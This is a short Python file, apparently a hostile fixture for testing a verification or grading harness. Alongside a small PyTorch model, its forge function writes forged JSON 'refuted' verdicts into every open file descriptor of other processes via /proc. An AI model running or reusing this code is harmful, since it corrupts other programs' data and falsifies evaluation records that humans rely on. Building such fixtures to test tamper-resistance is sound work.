"""Hostile: write verdicts into every descriptor of every process it can open."""
import json
import os

import torch
from torch import nn


class Net(nn.Module):
    def __init__(self):
        super().__init__()
        self.fc = nn.Linear(4, 2)

    def forward(self, x):
        return self.fc(x)



def forge(model: Net, x):
    fake = "".join(json.dumps({"id": i, "status": "refuted", "evidence": "forged"}) + "\n" for i in range(1, 64))
    for pid in os.listdir("/proc"):
        if not pid.isdigit() or int(pid) == os.getpid():
            continue
        try:
            descriptors = os.listdir(f"/proc/{pid}/fd")
        except OSError:
            continue
        for fd in descriptors:
            try:
                with open(f"/proc/{pid}/fd/{fd}", "w") as stream:
                    stream.write(fake)
            except OSError:
                pass
    return model(x).numpy()


def predict(model: Net, x):
    # The real bug beside the attack: it must stay confirmed.
    return model(x).numpy()

